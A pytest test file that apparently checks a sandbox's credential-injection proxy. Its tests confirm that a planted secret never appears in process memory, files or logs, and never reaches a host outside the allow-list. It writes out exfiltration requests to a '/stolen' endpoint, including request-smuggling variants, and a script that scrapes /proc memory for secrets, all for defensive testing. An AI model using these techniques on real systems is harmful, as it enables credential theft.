"""Code that has a placeholder and wants the secret, or wants it to be sent somewhere else."""

from __future__ import annotations

import ast
import json
from collections.abc import Generator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from uuid import uuid4

import pytest

from tests.emulator import bodies, upstreams
from tests.emulator.hostile.arena import Arena
from tests.emulator.signed import CREDENTIALS
from tests.emulator.upstreams import Upstream

PROXY = """
import os, socket
KEY = os.environ['KEY']
def ask(text):
    with socket.create_connection(('127.0.0.1', 3128), 5) as connection:
        connection.sendall(text.encode())
        connection.settimeout(2)
        data = b''
        try:
            while len(data) < 65536 and (more := connection.recv(4096)): data += more
        except OSError: pass
        return data.decode('latin-1')
"""


@dataclass(frozen=True)
class Theft:
    """An attacker with a placeholder, the server that its credential allows, and another one."""

    arena: Arena
    secret: str
    api: Upstream
    other: Upstream

    def python(self, code: str, timeout: float = 20) -> str:
        """What code prints; none of it may be the secret."""
        outcome = self.arena.python(PROXY + code, timeout)
        assert outcome.ending == "ok", outcome
        assert self.secret not in outcome.said
        return outcome.said


@contextmanager
def theft(arena: Arena, folder: Path) -> Generator[Theft]:
    place, secret = arena.ground, f"planted-{uuid4().hex}"
    with upstreams.running(None, folder) as api, upstreams.running(None, folder) as other:
        body = bodies.credential("loot", credentialSecret=secret, credentialPublicConfig={"allowedHosts": [api.host]})
        place.account.done("POST", CREDENTIALS, body)
        network = {"mode": "allow-list", "allow": [{"cidr": "127.0.0.2/32"}]}
        wanted = {"credentials": [{"credentialName": "loot", "environment": {"KEY": ""}}], "network": network}
        try:
            if not place.has_namespaces:
                asked = json.dumps({"templateName": "small", "credentials": wanted["credentials"]}).encode()
                answer = place.account.data("POST", "/sandboxes", asked)
                assert answer.status_code == 501, answer.text
                assert "namespaces" in answer.text
                pytest.skip("without namespaces there is no proxy, and credentials are refused")
            made = place.sandbox(**wanted)
            try:
                yield Theft(Arena(place, made, arena.neighbour), secret, api, other)
            finally:
                place.delete(made)
        finally:
            place.account.done("DELETE", f"{CREDENTIALS}/loot")


def used(found: Theft) -> None:
    """Use the secret, so that it has been on its way."""
    said = found.python(f"print(ask(f'GET {found.api.url}/used HTTP/1.1\\r\\nX-Key: {{KEY}}\\r\\n\\r\\n'))")
    assert " 200 " in said
    assert found.api.last["headers"]["X-Key"] == found.secret


def test_a_planted_secret_is_nowhere_in_the_sandbox(arena: Arena, tmp_path: Path) -> None:
    with theft(arena, tmp_path) as found:
        used(found)
        # Each sign in brackets, so that it is not in memory because it is looked for.
        pattern = "".join(f"[{sign}]" for sign in found.secret)
        code = f"""
import glob, re
wanted, control = re.compile({pattern!r}.encode()), KEY.encode()
found, seen = [], False
def look(path):
    global seen
    try:
        if os.path.isfile(path):
            data = open(path, 'rb').read(1 << 24)
            seen = seen or control in data
            if wanted.search(data): found.append(path)
    except OSError: pass
for name in ('environ', 'cmdline', 'status'):
    for path in glob.glob(f'/proc/[0-9]*/{{name}}'): look(path)
for folder in ('/home', '/tmp', '/run', '/etc', '/dev/shm', '/var', '/opt'):
    for parent, _, names in os.walk(folder):
        for name in names: look(os.path.join(parent, name))
for process in glob.glob('/proc/[0-9]*'):
    try: lines = open(f'{{process}}/maps').readlines()
    except OSError: continue
    for line in lines:
        addresses, rights, *_ = line.split()
        if not rights.startswith('rw') or '[v' in line: continue
        start, end = (int(number, 16) for number in addresses.split('-'))
        try:
            with open(f'{{process}}/mem', 'rb', 0) as memory:
                for at in range(start, end, 1 << 20):
                    memory.seek(at)
                    data = memory.read(min(1 << 20, end - at)) or b''
                    seen = seen or control in data
                    if wanted.search(data): found.append(line)
        except OSError: pass
print([seen, found])
"""
        seen, where = ast.literal_eval(found.python(code, 40))
        assert where == []
        assert seen


def test_nothing_that_the_emulator_keeps_or_tells_holds_it(arena: Arena, tmp_path: Path) -> None:
    with theft(arena, tmp_path) as found:
        used(found)
        found.python(f"ask(f'GET {found.other.url}/x HTTP/1.1\\r\\nX-Key: {{KEY}}\\r\\n\\r\\n')")
        attacker, place = found.arena.attacker, arena.ground
        for below in ("", "/credentials", "/capabilities", "/processes", "/contexts"):
            answer = place.account.data("GET", f"{attacker.path}{below}")
            assert found.secret not in answer.text
        journal = place.account.client.get("/_emulator/journal").text
        assert "InjectCredential" in journal
        assert found.secret not in journal
        for folder in (place.state, place.directory):
            for file in folder.rglob("*"):
                if file.is_file():
                    assert found.secret.encode() not in file.read_bytes(), file
        for process in Path("/proc").glob("[0-9]*"):
            try:
                told = (process / "cmdline").read_bytes() + (process / "environ").read_bytes()
            except OSError:
                continue
            assert found.secret.encode() not in told, process


@pytest.mark.parametrize(
    "request_",
    [
        "GET {other}/stolen HTTP/1.1\\r\\nX-Key: {KEY}\\r\\n\\r\\n",
        "GET {other}/stolen?k={KEY} HTTP/1.1\\r\\nHost: {api}\\r\\n\\r\\n",
        "GET {other}/stolen/{KEY} HTTP/1.1\\r\\n\\r\\n",
        "POST {other}/stolen HTTP/1.1\\r\\nContent-Length: {size}\\r\\n\\r\\n{KEY}",
        "GET {other}/stolen HTTP/1.1\\r\\nProxy-Connection: keep-alive\\r\\nCookie: a={KEY}; b={KEY}\\r\\n\\r\\n",
        # The second one goes nowhere: a plain connection has one request.
        "GET {api}/first HTTP/1.1\\r\\n\\r\\nGET {other}/stolen HTTP/1.1\\r\\nX-Key: {KEY}\\r\\n\\r\\n",
        "POST {api}/first HTTP/1.1\\r\\nContent-Length: 0\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
        "GET {other}/stolen HTTP/1.1\\r\\nX-Key: {KEY}\\r\\n\\r\\n",
        "GET {other}/stolen HTTP/1.1\\r\\nConnection: X-Key\\r\\nX-Key: {KEY}\\r\\n\\r\\n",
    ],
)
def test_another_server_never_gets_it(arena: Arena, tmp_path: Path, request_: str) -> None:
    with theft(arena, tmp_path) as found:
        code = f"""
fields = dict(other={found.other.url!r}, api={found.api.url!r}, KEY=KEY, size=len(KEY))
print(ask('{request_}'.format(**fields)))
"""
        found.python(code)
        assert not found.other.saw(found.secret)
        assert not found.other.saw("/stolen") or "X-Key" not in found.other.last["headers"]


def test_what_others_have_is_worth_nothing(arena: Arena, tmp_path: Path) -> None:
    """A neighbour that knows the placeholder, and a proxy of another sandbox."""
    with theft(arena, tmp_path) as found:
        key = found.arena.said("printenv KEY").strip()
        assert key.startswith("agentrun-placeholder-")
        network = {"mode": "allow-list", "allow": [{"cidr": "127.0.0.2/32"}]}
        other = arena.ground.sandbox(network=network)
        try:
            request = f"u.Request('{found.api.url}/neighbour', headers={{'X-Key': '{key}'}})"
            said = other.run(f'python3 -c "import urllib.request as u; print(u.urlopen({request}).read().decode())"')
            assert key in said
        finally:
            arena.ground.delete(other)
        assert found.api.last["headers"]["X-Key"] == key


def test_an_end_of_the_credential_is_the_end_of_it(arena: Arena, tmp_path: Path) -> None:
    with theft(arena, tmp_path) as found:
        used(found)
        arena.ground.account.done("PUT", f"{CREDENTIALS}/loot", {"enabled": False})
        said = found.python(f"print(ask(f'GET {found.api.url}/late HTTP/1.1\\r\\nX-Key: {{KEY}}\\r\\n\\r\\n'))")
        assert " 403 " in said
        assert "credential 'loot' cannot be used: it is disabled" in said
        assert not found.api.saw("/late")
